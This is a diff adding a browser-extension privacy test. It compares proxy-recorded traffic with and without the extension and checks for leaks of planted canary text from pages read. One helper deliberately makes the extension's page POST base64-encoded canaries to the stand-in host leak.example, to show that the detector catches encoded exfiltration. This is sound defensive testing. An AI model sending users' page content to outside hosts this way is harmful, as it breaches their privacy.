@@ -1,0 +1,115 @@
+import { setTimeout as pause } from 'node:timers/promises';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { tried } from '../trust/tries.ts';
+import { openBareBrowser } from './lab/bare-browser.ts';
+import { type CanaryPage, planted } from './lab/canary.ts';
+import { Lab } from './lab/lab.ts';
+import { hostsIn, leaks, secretsOf } from './lab/ledger.ts';
+import ALLOWED from './lab/ledger-hosts.json' with { type: 'json' };
+import { type Entry, openLedgerProxy } from './lab/ledger-proxy.ts';
+import { FLOOD, newsPage, SUMMIT } from './lab/stories.ts';
+import { HOSTS, serveTestSite, type TestSite } from './lab/test-site.ts';
+import { bareTour, type TourPages, tour } from './lab/tour.ts';
+
+/** What the browser sent: with the extension, by itself, and where the extension's own page was made to send. */
+interface Ledgers {
+  readonly entries: readonly Entry[];
+  readonly bare: readonly Entry[];
+  readonly provoked: readonly Entry[];
+}
+
+const HOUR_MS = 3_600_000;
+
+describe('all that the browser sends while pages are read, marked, compared, copied, saved and exported', () => {
+  const pages: TourPages = { read: planted(SUMMIT, 'read'), saved: planted(FLOOD, 'saved') };
+  const both: readonly CanaryPage[] = [pages.read, pages.saved];
+  const secrets = both.flatMap((page) => secretsOf(page, `http://${HOSTS[0]}${page.path}`));
+  let ledgers: Ledgers;
+
+  beforeAll(async () => {
+    const start = performance.now();
+    const told = await ledgerWith(pages);
+    ledgers = { ...told, bare: await ledgerWithout(both, performance.now() - start) };
+  }, HOUR_MS);
+
+  it('goes to no host that it does not go to without the extension, but the list of those allowed', (context) => {
+    const { entries, bare } = ledgers;
+    tried(context, entries.length);
+    const own = hostsIn(bare);
+    expect(own).toContain(HOSTS[0]);
+    expect(hostsIn(entries).filter((host) => !own.includes(host))).toEqual(ALLOWED);
+  });
+
+  it('holds nothing of what was read, in whatever form, that it does not hold without the extension', (context) => {
+    const { entries, bare } = ledgers;
+    tried(context, entries.length * secrets.reduce((sum, { forms }) => sum + forms.length, 0));
+    expect(leaks(entries, [], secrets)).not.toEqual([]);
+    expect(leaks(entries, bare, secrets)).toEqual([]);
+  });
+
+  it('would be seen, encrypted and encoded as it may be', () => {
+    const { provoked, bare } = ledgers;
+    expect(hostsIn(provoked)).toContain('leak.example');
+    const seen = leaks(provoked, bare, secrets).filter((line) => line.includes('leak.example: POST /base64'));
+    expect(seen.map((line) => line.split(' in ')[0])).toEqual([
+      'canary of the address',
+      'canary of the title',
+      'canary of the text',
+    ]);
+  });
+});
+
+function publish(site: TestSite, { path, story }: CanaryPage): string {
+  site.put(path, newsPage(story));
+  return site.at(path);
+}
+
+/** @param patience ms; a browser calls home at its own times, so it gets as many as the extension's had */
+async function ledgerWithout(pages: readonly CanaryPage[], patience: number): Promise<readonly Entry[]> {
+  const proxy = await openLedgerProxy();
+  const site = await serveTestSite();
+  for (const host of HOSTS) proxy.serve(host, site.port);
+  const browser = await openBareBrowser({ proxy: proxy.port });
+  try {
+    await bareTour(
+      browser,
+      pages.map((page) => publish(site, page)),
+    );
+    await pause(patience);
+  } finally {
+    await browser.close();
+    site.close();
+    proxy.close();
+  }
+  return [...proxy.entries];
+}
+
+async function ledgerWith(pages: TourPages): Promise<Omit<Ledgers, 'bare'>> {
+  const proxy = await openLedgerProxy();
+  const lab = await Lab.open(undefined, { proxy: proxy.port });
+  let told = 0;
+  try {
+    for (const host of HOSTS) proxy.serve(host, lab.site.port);
+    for (const page of [pages.read, pages.saved]) publish(lab.site, page);
+
+    await tour(lab, pages);
+
+    told = proxy.entries.length;
+    await provoke(lab, pages.read);
+  } finally {
+    await lab.close();
+    proxy.close();
+  }
+  const provoked = proxy.entries.slice(told);
+  return { entries: proxy.entries.filter(({ host }) => host !== 'leak.example'), provoked };
+}
+
+/** What this test must be able to see: a page of the extension sends what was read, as its policy lets it where feeds are read. */
+async function provoke(lab: Lab, { canaries }: CanaryPage): Promise<void> {
+  const words = canaries.map((each) => each.words).join(' and ');
+  const body = Buffer.from(words).toString('base64');
+  await lab.desk.page.evaluate(
+    (sent) => fetch('https://leak.example/base64', { method: 'POST', body: sent }).catch(() => undefined),
+    body,
+  );
+}
